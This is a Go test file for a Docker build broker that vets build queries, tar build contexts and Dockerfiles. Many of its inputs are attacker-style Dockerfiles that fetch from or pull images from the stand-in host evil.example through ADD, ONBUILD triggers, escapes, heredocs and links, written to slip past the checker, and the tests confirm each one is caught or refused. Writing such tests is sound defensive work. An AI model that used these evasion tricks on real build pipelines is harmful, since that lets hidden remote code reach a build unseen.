// SPDX-License-Identifier: Apache-2.0

package dockerbroker

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"
)

const buildParent = "/sluice/build"

// buildQuery is the query a Docker CLI sends for `DOCKER_BUILDKIT=0
// docker build -t app .` (docker/cli's imageBuildOptionsToQuery).
func buildQuery() url.Values {
	return url.Values{"t": {"app:1", "app:latest"}, "rm": {"1"}, "cpusetcpus": {""}, "networkmode": {"default"},
		"cpusetmems": {""}, "cpushares": {"0"}, "cpuquota": {"0"}, "cpuperiod": {"0"}, "memory": {"0"},
		"memswap": {"0"}, "cgroupparent": {""}, "shmsize": {"0"}, "dockerfile": {"Dockerfile"}, "target": {""},
		"ulimits": {"null"}, "buildargs": {"{}"}, "labels": {"{}"}, "cachefrom": {"null"}, "version": {"1"}}
}

func TestJudgeBuildQueryPasses(t *testing.T) {
	q := buildQuery()
	out, r := JudgeBuildQuery(q, scope(), buildParent)
	if r != nil {
		t.Fatalf("refused: %v", r)
	}
	if got := out["cgroupparent"]; len(got) != 1 || got[0] != buildParent {
		t.Errorf("cgroupparent = %q, want [%s]", got, buildParent)
	}
	if !reflect.DeepEqual(out["t"], []string{"app:1", "app:latest"}) {
		t.Errorf("t = %q: every tag passes", out["t"])
	}
	if q.Get("cgroupparent") != "" {
		t.Error("the client's query was changed in place")
	}
	for k := range q {
		if _, ok := out[k]; !ok {
			t.Errorf("%s dropped", k)
		}
	}
	// A query without cgroupparent gets one; the client's own equal to
	// the broker's passes.
	for _, q := range []url.Values{{}, {"cgroupparent": {buildParent}}, {"networkmode": {"n1"}},
		{"networkmode": {"container:mine"}}, {"networkmode": {"none"}}, {"isolation": {"default"}},
		{"labels": {`{"app":"x","sluicex":"y"}`}}, {"dockerfile": {"sub/Dockerfile.dev"}}, {"version": {""}}} {
		out, r := JudgeBuildQuery(q, scope(), buildParent)
		if r != nil {
			t.Errorf("%v refused: %v", q, r)
			continue
		}
		if out.Get("cgroupparent") != buildParent {
			t.Errorf("%v: cgroupparent %q", q, out.Get("cgroupparent"))
		}
	}
}

func TestJudgeBuildQueryRefuses(t *testing.T) {
	for _, c := range []struct {
		q    url.Values
		want string
	}{
		{url.Values{"remote": {"https://example.com/ctx.tar"}}, "would fetch the build context itself"},
		{url.Values{"remote": {"git@github.com:o/r"}}, "remote="},
		{url.Values{"version": {"2"}}, "DOCKER_BUILDKIT=0"},
		{url.Values{"version": {"3"}}, "only the legacy builder"},
		{url.Values{"session": {"abc"}}, "session=abc: a BuildKit parameter"},
		{url.Values{"outputs": {`[{"Type":"local"}]`}}, "outputs="},
		{url.Values{"securityopt": {"seccomp=unconfined"}}, "securityopt"},
		{url.Values{"networkmode": {"host"}}, "--network host"},
		{url.Values{"networkmode": {"container:other"}}, "not a container of this session"},
		{url.Values{"networkmode": {"n2"}}, "--network n2"},
		{url.Values{"isolation": {"hyperv"}}, "--isolation hyperv"},
		{url.Values{"cgroupparent": {"/"}}, "--cgroup-parent /"},
		{url.Values{"labels": {`{"sluice.session":"other"}`}}, "the label sluice.session"},
		{url.Values{"labels": {`{"a":`}}, "labels: not JSON"},
		{url.Values{"dockerfile": {"/etc/Dockerfile"}}, "absolute"},
		{url.Values{"dockerfile": {"../Dockerfile"}}, "with .."},
		{url.Values{"dockerfile": {"sub/../Dockerfile"}}, "with .."},
		// Unknown keys fail closed, also a case variant of a known one
		// (the engine reads keys as written, the judge must too).
		{url.Values{"frobnicate": {"1"}}, `"frobnicate"`},
		{url.Values{"Remote": {"https://x"}}, `"Remote"`},
		// The engine reads the first value: a harmless first and a
		// dangerous second is refused, not judged by either.
		{url.Values{"remote": {"", "https://example.com/x"}}, "given 2 times"},
		{url.Values{"networkmode": {"default", "host"}}, "given 2 times"},
	} {
		_, r := JudgeBuildQuery(c.q, scope(), buildParent)
		if r == nil {
			t.Errorf("%v passed, want refused (%s)", c.q, c.want)
			continue
		}
		if !strings.Contains(r.Error(), c.want) {
			t.Errorf("%v: %q, want it to say %q", c.q, r.Error(), c.want)
		}
	}
	if _, r := JudgeBuildQuery(url.Values{}, scope(), ""); r == nil {
		t.Error("no build parent: passed")
	}
}

func TestJudgeBuildHeader(t *testing.T) {
	for _, ct := range []string{"", "application/x-tar", "application/tar", "Application/X-Tar; charset=binary"} {
		h := http.Header{}
		if ct != "" {
			h.Set("Content-Type", ct)
		}
		if r := JudgeBuildHeader(h); r != nil {
			t.Errorf("%q refused: %v", ct, r)
		}
	}
	for _, ct := range []string{"application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
		"application/x-www-form-urlencoded; =bad", "text/plain"} {
		h := http.Header{"Content-Type": {ct}}
		if r := JudgeBuildHeader(h); r == nil {
			t.Errorf("%q passed", ct)
		}
	}
	if r := JudgeBuildHeader(http.Header{"Content-Type": {"application/x-tar", "application/x-www-form-urlencoded"}}); r == nil {
		t.Error("two Content-Types passed")
	}
}

// entry is a tar entry of a test context.
type entry struct {
	name, body, link string
	typ              byte
}

func tarOf(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, e := range entries {
		typ := e.typ
		if typ == 0 {
			typ = tar.TypeReg
		}
		h := &tar.Header{Name: e.name, Typeflag: typ, Linkname: e.link, Mode: 0o644}
		if typ == tar.TypeReg {
			h.Size = int64(len(e.body))
		}
		if typ == tar.TypeDir {
			h.Mode = 0o755
		}
		if err := w.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if typ == tar.TypeReg {
			if _, err := w.Write([]byte(e.body)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func gzipOf(t *testing.T, b []byte) []byte {
	t.Helper()
	var z bytes.Buffer
	w := gzip.NewWriter(&z)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return z.Bytes()
}

// bzip2Context is `tar --format=ustar -cf c.tar Dockerfile; bzip2 c.tar`
// of a Dockerfile "FROM ghcr.io/o/bz\n" (the standard library writes no
// bzip2).
const bzip2Context = "QlpoOTFBWSZTWWWgQ04AAHx/kMoQQEBAAf8ABQKRAHvsnhAEAAAIIAB0GlGmTQ0AMhoAZNBlQ9JoA0AAAaD5ozkUhBAW+SCQiMcHbAiiAQ4R66BcpoZCsEA2W2IhiDnBlquWZAQTEmOnGDddTjNt/j3sY53Ln0ReJCg5Hu7YIEPoLIiA/F3JFOFCQZaBDTg="

func TestReadBuildContext(t *testing.T) {
	bz, err := base64.StdEncoding.DecodeString(bzip2Context)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name       string
		ctx        []byte
		dockerfile string
		want       string
	}{
		{"plain", tarOf(t, entry{name: "src", typ: tar.TypeDir}, entry{name: "src/a.go", body: "package a"},
			entry{name: "Dockerfile", body: "FROM alpine\n"}), "", "FROM alpine\n"},
		{"gzip", gzipOf(t, tarOf(t, entry{name: "Dockerfile", body: "FROM gz\n"})), "", "FROM gz\n"},
		{"bzip2", bz, "", "FROM ghcr.io/o/bz\n"},
		{"dot slash", tarOf(t, entry{name: "./Dockerfile", body: "FROM dot\n"}), "", "FROM dot\n"},
		{"leading slash", tarOf(t, entry{name: "/Dockerfile", body: "FROM abs\n"}), "Dockerfile", "FROM abs\n"},
		{"lowercase fallback", tarOf(t, entry{name: "dockerfile", body: "FROM lower\n"}), "", "FROM lower\n"},
		{"lowercase fallback named", tarOf(t, entry{name: "dockerfile", body: "FROM lower\n"}), "Dockerfile", "FROM lower\n"},
		{"other path", tarOf(t, entry{name: "Dockerfile", body: "FROM no\n"}, entry{name: "build/Dockerfile.dev", body: "FROM dev\n"}), "./build//Dockerfile.dev", "FROM dev\n"},
		{"cli's outside file", tarOf(t, entry{name: ".dockerfile.0123abcd", body: "FROM out\n"}), ".dockerfile.0123abcd", "FROM out\n"},
		{"links elsewhere", tarOf(t, entry{name: "Dockerfile", body: "FROM ok\n"}, entry{name: "l", typ: tar.TypeSymlink, link: "Dockerfile"}), "", "FROM ok\n"},
		{"empty", tarOf(t, entry{name: "Dockerfile"}), "", ""},
	} {
		got, err := ReadBuildContext(bytes.NewReader(c.ctx), c.dockerfile)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		if string(got) != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func TestReadBuildContextRefuses(t *testing.T) {
	big := strings.Repeat("#", MaxDockerfileSize+1)
	for _, c := range []struct {
		name       string
		ctx        []byte
		dockerfile string
		want       string
	}{
		{"symlink", tarOf(t, entry{name: "real", body: "FROM evil\n"}, entry{name: "Dockerfile", typ: tar.TypeSymlink, link: "real"}), "", "symbolic link"},
		{"hardlink", tarOf(t, entry{name: "real", body: "FROM evil\n"}, entry{name: "Dockerfile", typ: tar.TypeLink, link: "real"}), "", "hard link"},
		{"directory", tarOf(t, entry{name: "Dockerfile", typ: tar.TypeDir}), "", "not a regular file"},
		{"twice", tarOf(t, entry{name: "Dockerfile", body: "FROM alpine\n"}, entry{name: "Dockerfile", body: "FROM evil\n"}), "", "more than once"},
		{"twice dot slash", tarOf(t, entry{name: "Dockerfile", body: "FROM alpine\n"}, entry{name: "./Dockerfile", body: "FROM evil\n"}), "", "more than once"},
		{"twice by cleaning", tarOf(t, entry{name: "Dockerfile", body: "FROM alpine\n"}, entry{name: "a/../Dockerfile", body: "FROM evil\n"}), "", "more than once"},
		{"twice by case", tarOf(t, entry{name: "Dockerfile", body: "FROM alpine\n"}, entry{name: "dockerfile", body: "FROM evil\n"}), "", "more than once"},
		{"other case only", tarOf(t, entry{name: "DOCKERFILE", body: "FROM x\n"}), "", "no Dockerfile"},
		{"no fallback when named", tarOf(t, entry{name: "sub/dockerfile", body: "FROM x\n"}), "sub/Dockerfile", "no sub/Dockerfile"},
		{"missing", tarOf(t, entry{name: "a", body: "x"}), "", "no Dockerfile"},
		// "sub" is a link to the root: the engine writes sub/Dockerfile
		// over the Dockerfile the judge read.
		{"under a link", tarOf(t, entry{name: "Dockerfile", body: "FROM alpine\n"}, entry{name: "sub", typ: tar.TypeSymlink, link: "."},
			entry{name: "sub/Dockerfile", body: "FROM evil\n"}), "", "lies under the link sub"},
		{"under a link, link last", tarOf(t, entry{name: "sub/Dockerfile", body: "FROM evil\n"}, entry{name: "Dockerfile", body: "FROM alpine\n"},
			entry{name: "SUB", typ: tar.TypeSymlink, link: "."}), "", "lies under the link SUB"},
		{"dockerfile through a link", tarOf(t, entry{name: "d", typ: tar.TypeSymlink, link: "e"}, entry{name: "d/Dockerfile", body: "FROM x\n"}), "d/Dockerfile", "lies under the link d"},
		{"too big", tarOf(t, entry{name: "Dockerfile", body: big}), "", "larger than"},
		{"absolute", tarOf(t, entry{name: "Dockerfile", body: "FROM x\n"}), "/Dockerfile", "absolute"},
		{"escapes", tarOf(t, entry{name: "Dockerfile", body: "FROM x\n"}), "../Dockerfile", "with .."},
		{"xz", append([]byte{0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00}, make([]byte, 32)...), "", "xz-compressed"},
		{"zstd", append([]byte{0x28, 0xb5, 0x2f, 0xfd}, make([]byte, 32)...), "", "zstd-compressed"},
		{"zstd skippable frame", append([]byte{0x5a, 0x2a, 0x4d, 0x18, 0, 0, 0, 0}, make([]byte, 32)...), "", "zstd-compressed"},
		{"broken gzip", append([]byte{0x1f, 0x8b, 0x08}, make([]byte, 32)...), "", "reading the build context"},
		{"not a tar", []byte(strings.Repeat("not a tar at all ", 64)), "", "reading the build context"},
	} {
		_, err := ReadBuildContext(bytes.NewReader(c.ctx), c.dockerfile)
		if err == nil {
			t.Errorf("%s: read, want refused (%s)", c.name, c.want)
			continue
		}
		if !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %q, want it to say %q", c.name, err, c.want)
		}
	}
}

func hub(ref string) BuildImage {
	return BuildImage{Ref: ref, Host: "registry-1.docker.io", Base: true}
}

func TestJudgeDockerfilePlan(t *testing.T) {
	for _, c := range []struct {
		name, text string
		images     []BuildImage
		urls       []BuildURL
	}{
		{"simple", "FROM alpine:3.20\nRUN echo hi\n", []BuildImage{hub("alpine:3.20")}, nil},
		{"scratch", "FROM scratch\nCOPY a /a\n", nil, nil},
		{"case-insensitive instructions", "from ghcr.io/o/base\naDd https://Example.COM/a.tgz /a\ncOpY --from=quay.io/o/tool /t /t\n",
			[]BuildImage{{Ref: "ghcr.io/o/base", Host: "ghcr.io", Base: true}, {Ref: "quay.io/o/tool", Host: "quay.io"}},
			[]BuildURL{{URL: "https://Example.COM/a.tgz", Host: "example.com", Port: "443"}}},
		{"multi-stage", "FROM golang:1.22 AS Build\nRUN go build\nFROM BUILD as second\nFROM alpine\nCOPY --from=build /a /a\nCOPY --from=SECOND /b /b\nCOPY --from=0 /c /c\n",
			[]BuildImage{hub("golang:1.22"), hub("alpine")}, nil},
		{"platform", "FROM --platform=linux/arm64 ghcr.io/o/x@sha256:0123 AS b\n",
			[]BuildImage{{Ref: "ghcr.io/o/x@sha256:0123", Host: "ghcr.io", Base: true, Platform: "linux/arm64"}}, nil},
		// A stage is known only once it is done: the current stage's
		// own name and a later stage's are images to the engine.
		{"current stage name", "FROM alpine AS tool\nCOPY --from=tool /a /a\n", []BuildImage{hub("alpine"), {Ref: "tool", Host: "registry-1.docker.io"}}, nil},
		{"later stage name", "FROM later\nFROM alpine AS later\n", []BuildImage{hub("later"), hub("alpine")}, nil},
		{"json add", `FROM alpine` + "\n" + `ADD ["local file", "/x"]` + "\n" + `ADD ["https://example.org/f", "/y/"]`,
			[]BuildImage{hub("alpine")}, []BuildURL{{URL: "https://example.org/f", Host: "example.org", Port: "443"}}},
		{"continuation", "FROM alpine\nRUN echo a \\\n  && echo b\nADD \\\n  http://example.com/x \\\n  /x\n",
			[]BuildImage{hub("alpine")}, []BuildURL{{URL: "http://example.com/x", Host: "example.com", Port: "80"}}},
		// Split mid-word, the URL is joined across the lines.
		{"continuation mid-word", "FROM alpine\nADD http://exam\\\nple.com/x /x\n",
			[]BuildImage{hub("alpine")}, []BuildURL{{URL: "http://example.com/x", Host: "example.com", Port: "80"}}},
		{"escape directive", "# escape=`\nFROM mcr.microsoft.com/windows/servercore\nRUN dir C:\\ `\n  && echo ok\nADD `\n  https://example.com/a C:\\a\n",
			[]BuildImage{{Ref: "mcr.microsoft.com/windows/servercore", Host: "mcr.microsoft.com", Base: true}},
			[]BuildURL{{URL: "https://example.com/a", Host: "example.com", Port: "443"}}},
		// With ` as the escape character a trailing backslash continues
		// nothing: the ADD is its own instruction.
		{"escape directive ends backslash continuation", "# escape=`\nFROM alpine\nRUN echo \\\nADD http://example.com/hidden /x\n",
			[]BuildImage{hub("alpine")}, []BuildURL{{URL: "http://example.com/hidden", Host: "example.com", Port: "80"}}},
		{"crlf and bom", "\ufeffFROM alpine\r\nADD http://example.com/a \\\r\n /a\r\n",
			[]BuildImage{hub("alpine")}, []BuildURL{{URL: "http://example.com/a", Host: "example.com", Port: "80"}}},
		{"comments and blank lines", "# a comment\n\nFROM alpine\n  # indented\nRUN a \\\n  # inside RUN\n  b\n",
			[]BuildImage{hub("alpine")}, nil},
		{"dedup and order", "FROM b\nFROM a\nFROM b\nCOPY --from=c / /\nCOPY --from=a / /\nADD http://h/1 http://h/1 /d/\n",
			[]BuildImage{hub("b"), hub("a"), {Ref: "c", Host: "registry-1.docker.io"}}, []BuildURL{{URL: "http://h/1", Host: "h", Port: "80"}}},
		// The flag reader removes quotes: the engine pulls evil.example.
		{"quoted flag", "FROM alpine AS b\nCOPY --from=\"evil.example/x\" / /\n",
			[]BuildImage{hub("alpine"), {Ref: "evil.example/x", Host: "evil.example"}}, nil},
		{"onbuild", "FROM alpine AS base\nONBUILD ADD https://example.com/t /t\nONBUILD COPY --from=ghcr.io/o/t / /\nFROM base\n",
			[]BuildImage{hub("alpine"), {Ref: "ghcr.io/o/t", Host: "ghcr.io"}}, []BuildURL{{URL: "https://example.com/t", Host: "example.com", Port: "443", Trigger: true}}},
		{"local sources", "FROM alpine\nADD app.tar.gz /app\nADD --chown=1:1 a b /d/\nCOPY . /src\n", []BuildImage{hub("alpine")}, nil},
		{"stage name characters", "FROM alpine AS My_Stage-1.x\nFROM my_stage-1.X\n", []BuildImage{hub("alpine")}, nil},
		// An index of no stage done: judged as the image it names.
		{"stage index out of range", "FROM alpine\nCOPY --from=0 / /\nFROM alpine\nCOPY --from=1 / /\nCOPY --from=+0 / /\nCOPY --from=-1 / /\n",
			[]BuildImage{hub("alpine"), {Ref: "0", Host: "registry-1.docker.io"}, {Ref: "1", Host: "registry-1.docker.io"}, {Ref: "-1", Host: "registry-1.docker.io"}}, nil},
		{"url port", "FROM localhost:5000/base\nADD http://example.com:8080/a https://[2001:db8::1]/b /d/\n",
			[]BuildImage{{Ref: "localhost:5000/base", Host: "localhost:5000", Base: true}},
			[]BuildURL{{URL: "http://example.com:8080/a", Host: "example.com", Port: "8080"}, {URL: "https://[2001:db8::1]/b", Host: "2001:db8::1", Port: "443"}}},
		{"arg before from", "ARG V=1\nFROM alpine\n", []BuildImage{hub("alpine")}, nil},
	} {
		plan, r := JudgeDockerfile([]byte(c.text))
		if r != nil {
			t.Errorf("%s: refused: %v", c.name, r)
			continue
		}
		if !reflect.DeepEqual(plan.Images, c.images) {
			t.Errorf("%s: images %+v, want %+v", c.name, plan.Images, c.images)
		}
		if !reflect.DeepEqual(plan.URLs, c.urls) {
			t.Errorf("%s: urls %+v, want %+v", c.name, plan.URLs, c.urls)
		}
	}
}

func TestJudgeDockerfileRefuses(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"from variable", "ARG BASE=alpine\nFROM $BASE\n", "FROM $BASE: a variable"},
		{"from braces", "FROM ${REG}/x\n", "a variable"},
		{"platform variable", "FROM --platform=$BUILDPLATFORM alpine\n", "--platform=$BUILDPLATFORM: a value the engine would compute"},
		{"copy from variable", "FROM alpine\nCOPY --from=$IMG / /\n", "COPY --from $IMG: a variable"},
		{"add variable", "FROM alpine\nADD $URL /x\n", "use COPY, or RUN curl"},
		{"from quoted", "FROM \"evil.example/x\"\n", "not a plain image reference"},
		{"from escaped", "FROM ev\\il.example/x\n", "not a plain image reference"},
		{"add quoted url", "FROM alpine\nADD \"http://evil.example/x\" /x\n", "write the URL plainly"},
		{"add escaped url", "FROM alpine\nADD ht\\tp://evil.example/x /x\n", "write the URL plainly"},
		{"add json escaped url", "FROM alpine\n" + `ADD ["\u0068ttp://evil.example/x\\", "/x"]` + "\n", "write the URL plainly"},
		{"add json variable", "FROM alpine\n" + `ADD ["\u0024U", "/x"]` + "\n", "a variable"},
		{"add json trailing", "FROM alpine\n" + `ADD ["a", "/x"] http://evil.example/y` + "\n", "text after the JSON array"},
		{"add json not strings", "FROM alpine\n" + `ADD ["a", 1]` + "\n", "not of strings"},
		{"add git@", "FROM alpine\nADD git@github.com:o/r /r\n", "git sources are not judged"},
		{"add git scheme", "FROM alpine\nADD git://github.com/o/r /r\n", "git sources are not judged"},
		{"add .git url", "FROM alpine\nADD https://github.com/o/r.git#main /r\n", "git sources are not judged"},
		{"add ftp", "FROM alpine\nADD ftp://example.com/x /x\n", "only http and https"},
		{"add upper scheme", "FROM alpine\nADD HTTP://example.com/x /x\n", "only http and https"},
		{"add no host", "FROM alpine\nADD http:///x /x\n", "not a URL the broker can read"},
		{"add non-ascii", "FROM alpine\nADD http://ex\u00a0ample.com/x /x\n", "non-ASCII"},
		{"add json url with a space", "FROM alpine\n" + `ADD ["http://example.com/a b", "/x"]` + "\n", "with spaces"},
		{"add one arg", "FROM alpine\nADD http://example.com/x\n", "sources and a destination"},
		{"add unknown flag", "FROM alpine\nADD --from=evil.example/x a /b\n", "the flag --from of ADD"},
		{"copy heredoc", "FROM alpine\nCOPY <<EOF /x\nhello\nEOF\n", "a heredoc"},
		{"add heredoc", "FROM alpine\nADD <<-'EOT' /x\nhello\nEOT\n", "a heredoc"},
		// A heredoc's body is not instructions to a newer engine: the
		// stage "evil" would exist for the judge only, and the engine
		// would pull "evil".
		{"run heredoc hides a stage", "FROM alpine\nRUN <<EOF\nFROM alpine AS evil\nEOF\nCOPY --from=evil / /\n", "a heredoc"},
		{"onbuild heredoc", "FROM alpine\nONBUILD RUN cat <<EOF\nx\nEOF\n", "a heredoc"},
		{"run flags", "FROM alpine\nRUN --network=host curl http://x\n", "RUN's flags are BuildKit's"},
		{"run mount", "FROM alpine\nRUN --mount=type=cache,target=/c make\n", "RUN's flags"},
		{"from flag", "FROM --foo=bar alpine\n", "the flag --foo of FROM"},
		{"copy from twice", "FROM alpine\nCOPY --from=a --from=b / /\n", "given twice"},
		{"copy from without value", "FROM alpine\nCOPY --from / /\n", "without a value"},
		{"unknown instruction", "FROM alpine\nFETCH http://x\n", "the instruction fetch"},
		{"nbsp joins the instruction", "FROM alpine\nADD\u00a0http://evil.example/x /x\n", "not one the legacy builder runs"},
		{"before from", "ADD http://example.com/x /x\nFROM alpine\n", "before the first FROM"},
		{"no from", "ARG X=1\n", "no FROM"},
		{"empty", "# only a comment\n\n", "no instructions"},
		{"from args", "FROM alpine AS\n", "takes an image"},
		{"bad stage name", "FROM alpine AS 1x\n", "not a valid name"},
		{"stage twice", "FROM alpine AS a\nFROM alpine AS A\n", "used twice"},
		// Directives where engine versions read them differently.
		{"escape below line one", "# syntax=docker/dockerfile:1\n# escape=`\nFROM alpine\n", "below the first line"},
		{"escape after shebang", "#!/usr/bin/env docker-build\n# escape=`\nFROM alpine\n", "below the first line"},
		{"escape upper key", "# ESCAPE=`\nFROM alpine\n", "write the escape directive"},
		{"escape odd value", "# escape=`x\nFROM alpine\n", "write the escape directive"},
		{"escape twice", "# escape=`\n# escape=\\\nFROM alpine\n", "below the first line"},
		{"double escape at end", "FROM alpine\nRUN echo \\\\\nADD http://evil.example/x /x\n", "two escape characters"},
		{"comment inside add", "FROM alpine\nADD a \\\n  # http://evil.example/x \\\n /b\n", "a comment inside"},
		{"comment inside from", "FROM \\\n# x\n alpine\n", "a comment inside"},
		{"long line", "FROM alpine\nRUN " + strings.Repeat("x", 70000) + "\n", "longer than"},
		// ONBUILD triggers are judged as the engine will run them.
		{"onbuild add variable", "FROM alpine AS b\nONBUILD ADD $U /x\n", "ONBUILD: the trigger \"ADD $U /x\": ADD $U: a variable"},
		{"onbuild git", "FROM alpine AS b\nONBUILD ADD git@github.com:o/r /r\n", "git sources"},
		{"onbuild from", "FROM alpine AS b\nONBUILD FROM evil.example/x\n", "FROM: not a trigger"},
		{"onbuild onbuild", "FROM alpine AS b\nONBUILD ONBUILD ADD http://x/y /z\n", "ONBUILD: not a trigger"},
		{"onbuild flag", "FROM alpine\nONBUILD --x ADD http://x/y /z\n", "ONBUILD takes none"},
	} {
		_, r := JudgeDockerfile([]byte(c.text))
		if r == nil {
			t.Errorf("%s: passed, want refused (%s)", c.name, c.want)
			continue
		}
		if !strings.Contains(r.Error(), c.want) {
			t.Errorf("%s: %q, want it to say %q", c.name, r.Error(), c.want)
		}
	}
}

// TestJudgeDockerfileHidden is what an attacker writes to have the
// engine fetch what the judge did not see: each must show in the plan.
func TestJudgeDockerfileHidden(t *testing.T) {
	for _, text := range []string{
		"FROM alpine\nRUN true\n  aDd http://evil.example/x /x\n",          // no continuation: its own instruction
		"FROM alpine\n\tADD\thttp://evil.example/x\t/x\n",                  // tabs
		"FROM alpine\nADD --chown=1:1 -- http://evil.example/x /x\n",       // -- ends the flags
		"FROM alpine\nADD --chown=\"a b\" http://evil.example/x /x\n",      // a quoted space in a flag
		"FROM alpine\nADD local http://evil.example/x /x\n",                // a URL after a path
		"FROM alpine\r\nADD http://evil.example/x /x\r\r\n",                // CRs
		"FROM alpine\nADD [\"http://evil.example/x\",\"/x\"]\n",            // JSON
		"FROM alpine\nONBUILD ADD http://evil.example/x /x\nFROM alpine\n", // a trigger
		"# escape=\\\nFROM alpine\nADD http://evil.example/x `\n/x\n",      // ` is no escape here
		"FROM alpine\nADD http://evil.example/x \\\n # not hidden\n/x\n",   // refused (a comment) or judged
		"FROM alpine\nCOPY --from=evil.example/x / /\nADD http://evil.example/x /x\n",
	} {
		plan, r := JudgeDockerfile([]byte(text))
		if r != nil {
			continue // refused: nothing fetched
		}
		found := false
		for _, u := range plan.URLs {
			found = found || u.Host == "evil.example"
		}
		if !found {
			t.Errorf("%q: plan %+v does not show evil.example", text, plan)
		}
	}
	// The one of them joined into RUN fetches nothing: it is a RUN's
	// text (the judge must not miss it as an ADD either way).
	plan, r := JudgeDockerfile([]byte("FROM alpine\nRUN true \\\nADD http://evil.example/x /x\n"))
	if r != nil || len(plan.URLs) != 0 {
		t.Errorf("RUN continued into ADD text: %+v %v, want no URL (it is RUN's argument)", plan, r)
	}
}

func TestJudgeOnBuild(t *testing.T) {
	plan, r := JudgeOnBuild([]string{"ADD https://example.com/a /a", "COPY --from=builder / /", "COPY --from=1 / /", "RUN make", "ENV A=b"})
	// A base image's trigger knows no stage of the build: builder and 1
	// are judged as the images the engine would pull if it took them so.
	if r != nil {
		t.Fatalf("refused: %v", r)
	}
	want := &BuildPlan{Images: []BuildImage{{Ref: "builder", Host: "registry-1.docker.io"}, {Ref: "1", Host: "registry-1.docker.io"}},
		URLs: []BuildURL{{URL: "https://example.com/a", Host: "example.com", Port: "443", Trigger: true}}}
	if !reflect.DeepEqual(plan, want) {
		t.Errorf("plan %+v, want %+v", plan, want)
	}
	for _, c := range []struct {
		triggers []string
		want     string
	}{
		{[]string{"ADD $X /x"}, "a variable"},
		{[]string{"FROM evil.example/x"}, "FROM: not a trigger"},
		{[]string{"ONBUILD ADD http://x/y /z"}, "ONBUILD: not a trigger"},
		{[]string{"MAINTAINER x"}, "MAINTAINER: not a trigger"},
		{[]string{"ADD git://x/y /z"}, "git sources"},
		{[]string{"FETCH x"}, "not one the legacy builder runs"},
		{[]string{""}, "no instructions"},
		// A crafted image's trigger can hold lines and a directive of
		// its own: it is parsed as the engine parses it.
		{[]string{"# escape=`\nRUN x \\\nADD git@h:o/r /r"}, "git sources"},
		{[]string{"RUN x\nADD --from=e / /"}, "the flag --from of ADD"},
	} {
		_, r := JudgeOnBuild(c.triggers)
		if r == nil {
			t.Errorf("%q passed, want refused (%s)", c.triggers, c.want)
			continue
		}
		if !strings.Contains(r.Error(), c.want) {
			t.Errorf("%q: %q, want it to say %q", c.triggers, r.Error(), c.want)
		}
	}
}

func TestBuildPlanMerge(t *testing.T) {
	p := &BuildPlan{Images: []BuildImage{{Ref: "a", Host: "h"}, hub("b")}, URLs: []BuildURL{{URL: "http://u/1", Host: "u", Port: "80"}}}
	p.Merge(&BuildPlan{Images: []BuildImage{{Ref: "a", Host: "h", Base: true}, {Ref: "c", Host: "h"}},
		URLs: []BuildURL{{URL: "http://u/2", Host: "u", Port: "80"}, {URL: "http://u/1", Host: "u", Port: "80"}}})
	p.Merge(nil)
	want := &BuildPlan{Images: []BuildImage{{Ref: "a", Host: "h", Base: true}, hub("b"), {Ref: "c", Host: "h"}},
		URLs: []BuildURL{{URL: "http://u/1", Host: "u", Port: "80"}, {URL: "http://u/2", Host: "u", Port: "80"}}}
	if !reflect.DeepEqual(p, want) {
		t.Errorf("%+v, want %+v", p, want)
	}
}

// TestBuildEndToEnd reads a context, judges its Dockerfile and merges a
// base image's triggers, as the broker will.
func TestBuildEndToEnd(t *testing.T) {
	ctx := gzipOf(t, tarOf(t, entry{name: "./", typ: tar.TypeDir}, entry{name: "./Dockerfile", body: "FROM ghcr.io/o/base AS b\nFROM b\nADD https://example.com/x /x\n"}))
	df, err := ReadBuildContext(bytes.NewReader(ctx), "")
	if err != nil {
		t.Fatal(err)
	}
	plan, r := JudgeDockerfile(df)
	if r != nil {
		t.Fatal(r)
	}
	ob, r := JudgeOnBuild([]string{"COPY --from=quay.io/o/t / /"})
	if r != nil {
		t.Fatal(r)
	}
	plan.Merge(ob)
	var hosts []string
	for _, i := range plan.Images {
		hosts = append(hosts, i.Host)
	}
	for _, u := range plan.URLs {
		hosts = append(hosts, u.Host)
	}
	if want := []string{"ghcr.io", "quay.io", "example.com"}; !reflect.DeepEqual(hosts, want) {
		t.Errorf("hosts %q, want %q", hosts, want)
	}
}
